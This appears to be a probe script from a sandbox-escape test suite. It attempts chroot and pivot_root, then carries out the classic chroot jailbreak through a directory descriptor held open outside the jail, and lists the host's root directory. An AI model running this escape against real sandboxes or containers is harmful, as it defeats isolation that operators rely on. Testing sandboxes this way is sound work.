"""chroot and pivot_root, and out of them by a folder kept open (the classic jail break)."""

# aims: host
# control: harms (root)
import os

from attack import breach, call, said, tried

os.makedirs("jail", exist_ok=True)
outside = os.open(".", os.O_RDONLY)
tried()
pid = os.fork()
if pid == 0:
    result = call("chroot", os.fsencode(os.path.abspath("jail")))
    print(said(result), said(call("pivot_root", b".", b".")))
    if result == 0:
        breach("chroot")
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    call("chroot", b".")
    print(sorted(os.listdir("/"))[:40])
    os._exit(0)
os.waitpid(pid, 0)
